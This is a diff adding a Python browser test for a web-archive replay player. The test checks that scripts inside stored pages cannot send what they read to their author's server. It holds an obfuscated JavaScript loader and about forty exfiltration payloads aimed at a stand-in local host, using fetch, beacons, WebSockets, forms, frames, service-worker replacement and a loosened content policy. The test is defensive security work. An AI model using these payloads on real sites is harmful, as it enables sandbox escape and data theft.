@@ -1,0 +1,231 @@
+"""What scripts of stored pages may try that free themselves of the player, and send what they read
+to their author: none of it gets there.
+"""
+
+from __future__ import annotations
+
+import socket
+from base64 import b64encode
+from collections.abc import Iterator
+from contextlib import contextmanager
+from threading import Thread
+
+import pytest
+from django.urls import reverse
+from playwright.sync_api import expect
+
+from crawling.crawls.creation import start_run
+from crawling.models import AllowedNetwork, Page
+from tests.browser.conftest import PATIENCE_MS, session_of
+from tests.browser.house import make_crawl
+from tests.crawling.conftest import do_shifts
+from tests.crawling.wacz.test_wacz_file import made
+
+pytestmark = [pytest.mark.drill, pytest.mark.timeout(900)]
+
+#: A navigation or connection that is permitted begins within this; it is no race that is won.
+GRACE_MS = 700
+#: The constructor of asynchronous functions, which the player does not rewrite, compiles what a
+#: stored page hides from its rewriting.
+FREED = """<title>Stored</title><h1>Stored</h1><script>
+(async function () {}).constructor(atob("{hidden}"))()</script>"""
+#: W: the real window; P: the player's, whose functions are not rewritten; U: an address of the
+#: author's with D, what was read.
+HIDDEN = """
+  const W = Object.getOwnPropertyDescriptor(Document.prototype, "defaultView").get.call(document);
+  let P;
+  try { W.top.document.title; P = W.top } catch { P = W.top[0] }
+  const source = new URLSearchParams(P.location.search).get("source");
+  let D = btoa(P.location.href);
+  try { D = btoa(W.top.location.href) } catch {}
+  const file = await P.fetch(source, {headers: {Range: "bytes=0-9"}});
+  if (!file.ok) throw new Error(`the file is not there: ${file.status}`);
+  D = encodeURIComponent(D + btoa(await file.text()));
+  const U = `http://{author}/?${D}`, WS = `ws://{author}/?${D}`;
+  const put = (name, values, where = P.document) => {
+    const made = where.createElement(name);
+    Object.entries(values).forEach(([key, value]) => made.setAttribute(key, value));
+    return where.body.appendChild(made);
+  };
+  const loaded = made => new Promise(tell => {
+    made.addEventListener("load", () => tell(made.contentWindow));
+    P.setTimeout(() => tell(made.contentWindow), 3000);
+  });
+  try { {attack} } catch (error) { console.log("{name}", String(error)) }
+  P.document.documentElement.dataset.tried = "{name}";
+"""
+ATTACKS = {
+    "image": "new P.Image().src = U",
+    "fetch": "await P.fetch(U, {mode: 'no-cors'})",
+    "kept fetch": "await P.fetch(U, {mode: 'no-cors', keepalive: true, method: 'POST', body: D})",
+    "beacon": "P.navigator.sendBeacon(U, D)",
+    "event source": "new P.EventSource(U)",
+    "WebSocket": "new P.WebSocket(WS)",
+    "WebSocket of the stored page": "new W.WebSocket(WS); new WebSocket(WS)",
+    "WebSocket of a player in a frame": """
+        const other = await loaded(put('iframe', {src: '/index.html'}));
+        new other.WebSocket(WS)""",
+    "WebSocket of a worker": """new P.Worker(P.URL.createObjectURL(new P.Blob(
+        [`new WebSocket('${WS}'); fetch('${U}', {mode: 'no-cors'})`])))""",
+    "WebSocket of a missing page": """
+        const missing = await loaded(put('iframe', {src: '/w/none/http://none.example/'}));
+        new missing.WebSocket(WS)""",
+    "WebSocket of an archive with another policy": """
+        const {port1, port2} = new P.MessageChannel(), worker = P.navigator.serviceWorker;
+        worker.controller.postMessage({msg_type: 'addColl', name: 'loose', skipExisting: false,
+          extraConfig: {csp: "default-src * 'unsafe-inline'"},
+          file: {sourceUrl: source, loadUrl: source, name: 'loose.wacz'}}, [port2]);
+        await new Promise(tell => P.setTimeout(tell, 2000));
+        const page = W.location.pathname.replace(/^.w.[^/]+/, '/w/loose');
+        const loose = await loaded(put('iframe', {src: page.replace(/[^/]*$/, 'quiet')}));
+        new loose.WebSocket(WS)""",
+    "WebSocket without our service worker": """
+        await P.navigator.serviceWorker.register('/released-sw.js', {scope: '/'}).catch(() => 0);
+        await P.navigator.serviceWorker.register('/sw.js?replayPrefix=', {scope: '/'});
+        await new Promise(tell => P.setTimeout(tell, 2000));
+        const frame = await loaded(put('iframe', {src: '/index.html'}));
+        new frame.WebSocket(WS)""",
+    "WebSocket without any service worker": """
+        for (const one of await P.navigator.serviceWorker.getRegistrations())
+          await one.unregister();
+        const frame = await loaded(put('iframe', {src: '/index.html'}));
+        new frame.WebSocket(WS)""",
+    "WebTransport": "new P.WebTransport(U.replace('http', 'https'))",
+    "form": "put('form', {action: U, method: 'post'}).submit()",
+    "form to the top": "put('form', {action: U, target: '_top'}).submit()",
+    "form to another window": "put('form', {action: U, target: '_blank'}).submit()",
+    "form in the stored page": "put('form', {action: U, target: '_top'}, W.document).submit()",
+    "meta refresh": """P.document.head.insertAdjacentHTML('beforeend',
+        `<meta http-equiv=refresh content="0;url=${U}">`)""",
+    "meta refresh of the stored page": """W.document.head.insertAdjacentHTML('beforeend',
+        `<meta http-equiv=refresh content="0;url=${U}">`)""",
+    "location of the top": "W.top.location = U",
+    "location of the top, replaced": "W.top.location.replace(U)",
+    "location of the player": "P.location = U",
+    "location of the stored page": "P.Reflect.get(W, 'location').assign(U); W.location = U",
+    "history of the top": "W.top.history.pushState(0, '', U)",
+    "link to the top": "put('a', {href: U, target: '_top'}).click()",
+    "link to the top of the stored page": "put('a', {href: U, target: '_top'}, W.document).click()",
+    "link to another window": "put('a', {href: U, target: '_blank'}).click()",
+    "link to the parent": "put('a', {href: U, target: '_parent'}).click()",
+    "download": "put('a', {href: U, download: 'x'}).click()",
+    "ping": "put('a', {href: '#x', ping: U}).click()",
+    "another window": "P.open(U); W.open(U); W.top.open(U)",
+    "script URL": "W.top.location = `javascript:location='${U}'`",
+    "script in the page with the frame": """
+        W.top.document.body.append(W.top.document.createElement('script'))""",
+    "frame without a sandbox": """P.frameElement.removeAttribute('sandbox');
+        P.location.reload()""",
+    "frame": "put('iframe', {src: U})",
+    "frame with a document": """await loaded(put('iframe', {srcdoc:
+        `<img src="${U}"><script>new WebSocket("${WS}"); top.location = "${U}"</scr` + `ipt>`}))""",
+    "frame with data": """await loaded(put('iframe', {src: 'data:text/html,' +
+        encodeURIComponent(`<img src="${U}"><script>new WebSocket("${WS}")</scr` + `ipt>`)}))""",
+    "blank frame": """const blank = put('iframe', {}).contentWindow;
+        new blank.WebSocket(WS); new blank.Image().src = U; blank.location = U""",
+    "object": "put('object', {data: U}); put('embed', {src: U})",
+    "style sheet": "put('link', {rel: 'stylesheet', href: U}); put('style', {}).textContent = "
+    "`@import url('${U}'); html { background: url('${U}') }`",
+    "script": "put('script', {src: U}); await P.eval(`import('${U}')`)",
+    "media": "put('video', {src: U, poster: U}); put('audio', {src: U})",
+    "prefetch": "put('link', {rel: 'prefetch', href: U}); put('link', {rel: 'prerender', href: U})",
+    "preload": "put('link', {rel: 'preload', as: 'image', href: U});"
+    "put('link', {rel: 'modulepreload', href: U})",
+    "icon": "put('link', {rel: 'icon', href: U}); put('link', {rel: 'manifest', href: U})",
+    "speculation rules": """put('script', {type: 'speculationrules'}).textContent =
+        JSON.stringify({prefetch: [{urls: [U], eagerness: 'immediate'}],
+          prerender: [{urls: [U], eagerness: 'immediate'}]})""",
+    "source of an attribution": "put('img', {src: '/x.png', attributionsrc: U})",
+}
+
+
+def hostile(name: str, attack: str, author: str) -> str:
+    """A page that tries one of them."""
+    script = HIDDEN.replace("{attack}", attack).replace("{author}", author).replace("{name}", name)
+    return FREED.replace("{hidden}", b64encode(script.encode()).decode())
+
+
+#: the browser's error stands in the place of the player
+REFUSED_IN_PLACE = {"form", "meta refresh", "download"}
+
+
+@contextmanager
+def author() -> Iterator[tuple[str, list[str]]]:
+    """The server of the hostile page's author: its address, and the first line of each connection
+    and the first bytes of each datagram that came.
+    """
+    came: list[str] = []
+    with (
+        socket.create_server(("127.0.0.1", 0)) as server,
+        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams,
+    ):
+        datagrams.bind(server.getsockname())
+
+        def take() -> None:
+            while True:
+                connection, _ = server.accept()
+                with connection:
+                    connection.settimeout(2)
+                    try:
+                        said = connection.recv(4096)
+                        connection.sendall(
+                            b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
+                        )
+                    except OSError:
+                        said = b""
+                    if said == b"end":
+                        return
+                    came.append(said.partition(b"\r\n")[0].decode("latin-1"))
+
+        def take_datagrams() -> None:
+            while (said := datagrams.recv(4096)) != b"end":
+                came.append(f"datagram of {len(said)} bytes")
+
+        threads = [Thread(target=take), Thread(target=take_datagrams)]
+        for thread in threads:
+            thread.start()
+        host, port = server.getsockname()
+        try:
+            yield f"{host}:{port}", came
+        finally:
+            with socket.create_connection((host, port)) as last:
+                last.sendall(b"end")
+            datagrams.sendto(b"end", (host, port))
+            for thread in threads:
+                thread.join()
+
+
+def test_what_a_stored_page_reads_does_not_reach_its_author(
+    replay_port, make_site, pool, chromium, live_server, user_of
+):
+    AllowedNetwork.objects.create(network="127.0.0.0/8", port_from=1024, port_to=65535)
+    with author() as (address, came):
+        paths = {name: f"/{number}" for number, name in enumerate(ATTACKS)}
+        pages = {paths[name]: hostile(name, attack, address) for name, attack in ATTACKS.items()}
+        links = "".join(f'<a href="{path}">x</a>' for path in paths.values())
+        site = make_site({"/": f"<a href=/quiet>x</a>{links}", "/quiet": "quiet", **pages})
+        run = do_shifts(start_run(make_crawl("Hostile", f"{site.url}/")))
+        made(run)
+        context = chromium.new_context(base_url=live_server.url)
+        context.set_default_timeout(PATIENCE_MS)
+        context.add_cookies([session_of(user_of("operator"), live_server.url)])
+        reached = {}
+        for name, path in paths.items():
+            came.clear()
+            page = context.new_page()
+            stored = Page.objects.get(url__url=f"{site.url}{path}")
+            page.goto(reverse("crawling:replay", args=[run.crawl_id]) + f"?page={stored.pk}")
+            player = page.frames[1]
+            tried = player.locator(f"html[data-tried='{name}']")
+            if name in REFUSED_IN_PLACE:
+                page.wait_for_timeout(3 * GRACE_MS)
+            else:
+                expect(tried).to_be_attached()
+            page.wait_for_timeout(GRACE_MS)
+            for other in context.pages:
+                other.close()
+            if came:
+                reached[name] = list(came)
+        context.close()
+
+    assert reached == {}
